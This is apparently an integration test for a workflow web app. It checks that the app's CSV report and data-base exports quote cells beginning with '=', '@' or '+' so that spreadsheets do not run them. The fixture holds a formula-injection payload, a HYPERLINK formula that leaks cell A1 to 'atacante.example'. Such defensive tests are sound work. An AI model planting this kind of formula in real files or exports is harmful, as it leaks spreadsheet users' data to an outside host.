import type { RespostaCardsCriados } from '@wf/shared/types/relatorio';
import Papa from 'papaparse';
import { beforeAll, describe, expect, it } from 'vitest';
import { exportarCsv, type PaginaRegistros } from '../../web/src/features/bases-dados/utils/exportarCsv';
import { COLUNAS_CARDS } from '../../web/src/features/relatorios/utils/colunasRelatorio';
import { textoCsv } from '../../web/src/features/relatorios/utils/csvRelatorio';
import { eventually } from '../support/eventually';
import { criarCardPeloFormulario, fluxoComFormularioPublico } from './support/cards';
import { ambienteComDono, type Pessoa } from './support/fluxos';

/**
 * CSV formula injection: a value written by an outsider (a card's title through the anonymous
 * public form, a record of a data base) comes out of both exports quoted, so no spreadsheet runs
 * it. The CSVs are written in the browser: the data come through the real HTTP routes and go
 * through the very writers the SPA calls.
 */

const ATAQUE = '=HYPERLINK("http://atacante.example/?d="&A1;"Clique aqui")';

let dono: Pessoa;
beforeAll(async () => {
  ({ dono } = await ambienteComDono());
});

const linhasCsv = (texto: string) => Papa.parse<string[]>(texto.replace(/^\uFEFF/, ''), { delimiter: ';' }).data;
const hojeSp = () => new Intl.DateTimeFormat('en-CA', { timeZone: 'America/Sao_Paulo' }).format(new Date());

describe('CSV exports neutralise formulas', () => {
  it('the cards report: a title sent through the public form is quoted in the CSV', async () => {
    const f = await fluxoComFormularioPublico(dono);
    await criarCardPeloFormulario(dono.sigla, f.hash, ATAQUE);
    const dia = hojeSp();
    const linhas = await eventually(async () => {
      const r = await dono.http.get<RespostaCardsCriados>(
        `/api/relatorios/cards-criados?dataInicio=${dia}&dataFim=${dia}`,
        { sigla: dono.sigla },
      );
      expect(r.status, JSON.stringify(r.body)).toBe(200);
      const doFluxo = r.body.listaCardsCriados.filter((l) => l.nomeFluxo === f.fluxo.descricao);
      return doFluxo.length ? doFluxo : undefined;
    });
    expect(linhas[0]?.descrCard).toBe(ATAQUE);

    const [cabecalho, primeira] = linhasCsv(textoCsv(Papa, COLUNAS_CARDS, linhas));
    expect(cabecalho?.[0]).toBe('Card');
    expect(primeira?.[0]).toBe(`'${ATAQUE}`);
  });

  it('the data base export: cells and titles are quoted, negative numbers stay numbers', async () => {
    const colunas = [
      { id: 'titulo', titulo: '@Título', keyCampo: 'textoCurto' },
      { id: 'saldo', titulo: 'Saldo', keyCampo: 'number' },
    ];
    const base = await dono.http.post<{ data: { idDataSource: string } }>(
      '/api/datasources/inserir',
      { descricao: 'Exportação segura', detalhes: 'CSV', jsonDados: JSON.stringify({ colunas }) },
      { sigla: dono.sigla },
    );
    expect(base.status, JSON.stringify(base.body)).toBe(201);
    const id = base.body.data.idDataSource;
    for (const valores of [
      { textoCurto_titulo: ATAQUE, number_saldo: -5 },
      { textoCurto_titulo: '+55 11 99999-9999', number_saldo: 10 },
    ]) {
      const r = await dono.http.post(`/api/datasources/${id}/registros`, { valores }, { sigla: dono.sigla });
      expect(r.status, JSON.stringify(r.body)).toBe(201);
    }
    const lidas = await dono.http.get<{ jsonDados: string }>(`/api/datasources/buscar/${id}`, { sigla: dono.sigla });
    const arquivo = await exportarCsv(
      Papa,
      (JSON.parse(lidas.body.jsonDados) as { colunas: never[] }).colunas,
      async (cursor) => {
        const r = await dono.http.get<PaginaRegistros>(
          `/api/datasources/${id}/registros?tamanho=500${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}`,
          { sigla: dono.sigla },
        );
        expect(r.status, JSON.stringify(r.body)).toBe(200);
        return r.body;
      },
    );
    const [cabecalho, ...corpo] = linhasCsv(await arquivo.text());
    expect(cabecalho).toEqual(["'@Título", 'Saldo']);
    expect(corpo.sort((a, b) => Number(a[1]) - Number(b[1]))).toEqual([
      [`'${ATAQUE}`, '-5'],
      ["'+55 11 99999-9999", '10'],
    ]);
  });
});
